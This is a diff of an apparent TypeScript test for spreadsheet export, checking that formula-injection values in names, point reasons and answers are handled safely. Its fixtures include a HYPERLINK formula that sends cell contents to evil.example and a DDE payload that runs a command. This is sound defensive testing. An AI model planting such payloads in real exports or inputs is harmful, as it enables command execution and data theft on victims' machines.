@@ -14,7 +14,7 @@ let t: TestApp;
 const db = () => t.database.db;
 
 const NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
-const REASON = '+cmd|\' /C calc\'!A0';
+const REASON = "+cmd|' /C calc'!A0";
 const ANSWER = '@SUM(1+1)*cmd';
 
 async function exportOf(path: string): Promise<string[][]> {
@@ -29,7 +29,11 @@ const cells = (rows: string[][]) => rows.flat();
 beforeAll(async () => {
   t = await startTestApp();
   // People who typed a formula as their name, a reason and an answer that are formulas.
-  await db().updateTable('users').set({ name: sql<string>`${NAME} || ' ' || left(id::text, 4)` }).where('role', '=', 'candidate').execute();
+  await db()
+    .updateTable('users')
+    .set({ name: sql<string>`${NAME} || ' ' || left(id::text, 4)` })
+    .where('role', '=', 'candidate')
+    .execute();
   // Point entries are append-only: a company adds points with the reason, and takes some back.
   const company = await companyOf(t, 'company@demo.test');
   const person = (await db().selectFrom('point_entries').select('candidate_id').where('company_id', '=', company).executeTakeFirstOrThrow()).candidate_id;
